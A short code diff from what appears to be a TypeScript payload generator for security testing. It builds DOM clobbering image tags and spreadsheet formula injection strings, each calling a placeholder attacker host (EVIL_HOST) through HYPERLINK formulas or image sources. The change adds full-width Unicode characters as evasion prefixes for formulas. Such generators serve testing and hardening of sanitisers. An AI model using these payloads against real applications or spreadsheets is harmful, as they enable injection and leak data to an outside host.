@@ -359,7 +359,7 @@ const clobbering = (): Make[] =>
     (n) => `<img id=${name} name=${name} src=//${EVIL_HOST}/${n}>`,
   ]);
 
-const FORMULAS = ['=', '+', '-', '@', '|', '%', '\t=', '\r=', ' =', '\u00a0=', '\n+', '"=', "'=", ';=', '\ufeff='];
+const FORMULAS = ['=', '+', '-', '@', '|', '%', '\t=', '\r=', ' =', '\u00a0=', '\n+', '"=', "'=", ';=', '\ufeff=', '＝', '＋', '－', '＠'];
 const formulas = (): Make[] =>
   FORMULAS.flatMap((start): Make[] => [
     (n) => `${start}HYPERLINK("http://${EVIL_HOST}/${n}";"x")`,
